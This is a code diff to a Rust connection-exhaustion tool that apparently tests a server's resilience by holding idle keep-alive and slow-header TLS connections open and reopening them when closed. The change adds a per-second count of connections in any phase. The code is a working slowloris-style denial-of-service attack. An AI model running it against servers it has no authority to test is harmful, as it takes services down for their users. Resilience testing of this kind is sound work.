@@ -2,7 +2,12 @@
 //! initializer's connection slots. It keeps `ATTACK_IDLE` idle keep-alive connections (TLS, one
 //! `GET /healthz`, then silence) and `ATTACK_SLOW` slow-header connections (TLS, then a request
 //! head one byte a second) open to `ATTACK_TARGET`, reopening each one the server closes after
-//! `ATTACK_REOPEN_MS`, and prints what it holds every second (`held idle=… slow=… …`).
+//! `ATTACK_REOPEN_MS`, and prints what it holds every second (`held idle=… slow=… …`):
+//! `connected` counts every connection open at the moment in any phase (TCP connected, in the
+//! TLS handshake, waiting for an answer, idle or dribbling), `idle` and `slow` the ones past
+//! their handshake. Against a server that makes room by closing idle connections, most of what
+//! the attacker has open at any moment is still in its handshake: `connected` is how hard it
+//! presses, `idle` and `slow` how much it keeps.
 //!
 //! It runs where the pods are reachable (`Backend::command_inside`), spread over the source
 //! addresses in `ATTACK_SOURCES` (comma-separated; as many attacker pods would be), or from the
@@ -25,6 +30,7 @@ use tokio_rustls::TlsConnector;
 /// What the attacker holds and has done, printed every second.
 #[derive(Default)]
 struct Tally {
+    connected: AtomicUsize,
     idle: AtomicUsize,
     slow: AtomicUsize,
     opened: AtomicUsize,
@@ -76,12 +82,34 @@ async fn tcp(settings: &Settings, index: usize) -> std::io::Result<TcpStream> {
 
 type Tls = tokio_rustls::client::TlsStream<TcpStream>;
 
-async fn open(settings: &Settings, index: usize) -> std::io::Result<Tls> {
+/// One connection counted in [`Tally::connected`] from its TCP connect until it is dropped.
+struct Connected<'a>(&'a Tally);
+
+impl<'a> Connected<'a> {
+    fn new(tally: &'a Tally) -> Self {
+        tally.connected.fetch_add(1, Ordering::Relaxed);
+        Self(tally)
+    }
+}
+
+impl Drop for Connected<'_> {
+    fn drop(&mut self) {
+        self.0.connected.fetch_sub(1, Ordering::Relaxed);
+    }
+}
+
+async fn open<'a>(
+    settings: &Settings,
+    tally: &'a Tally,
+    index: usize,
+) -> std::io::Result<(Tls, Connected<'a>)> {
     let tcp = tcp(settings, index).await?;
-    settings
+    let connected = Connected::new(tally);
+    let tls = settings
         .connector
         .connect(settings.server_name.clone(), tcp)
-        .await
+        .await?;
+    Ok((tls, connected))
 }
 
 /// Reads until the end of one answer's head and its short body (`/healthz` answers `ok`).
@@ -100,7 +128,7 @@ async fn read_answer(tls: &mut Tls) -> std::io::Result<()> {
 
 /// One idle keep-alive connection: a request, then silence until the server closes it.
 async fn hold_idle(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
-    let mut tls = open(settings, index).await?;
+    let (mut tls, _connected) = open(settings, tally, index).await?;
     tally.opened.fetch_add(1, Ordering::Relaxed);
     tls.write_all(b"GET /healthz HTTP/1.1\r\nHost: attacker\r\n\r\n")
         .await?;
@@ -116,7 +144,7 @@ async fn hold_idle(settings: &Settings, tally: &Tally, index: usize) -> std::io:
 
 /// One slow-header connection: a request head, one byte a second, never finished.
 async fn hold_slow(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
-    let tls = open(settings, index).await?;
+    let (tls, _connected) = open(settings, tally, index).await?;
     tally.opened.fetch_add(1, Ordering::Relaxed);
     let (mut reader, mut writer) = tokio::io::split(tls);
     tally.slow.fetch_add(1, Ordering::Relaxed);
@@ -181,9 +209,10 @@ async fn main() -> anyhow::Result<()> {
     loop {
         ticks.tick().await;
         println!(
-            "held idle={} slow={} opened={} closed_by_server={} failed={}",
+            "held idle={} slow={} connected={} opened={} closed_by_server={} failed={}",
             tally.idle.load(Ordering::Relaxed),
             tally.slow.load(Ordering::Relaxed),
+            tally.connected.load(Ordering::Relaxed),
             tally.opened.load(Ordering::Relaxed),
             tally.closed_by_server.load(Ordering::Relaxed),
             tally.failed.load(Ordering::Relaxed),
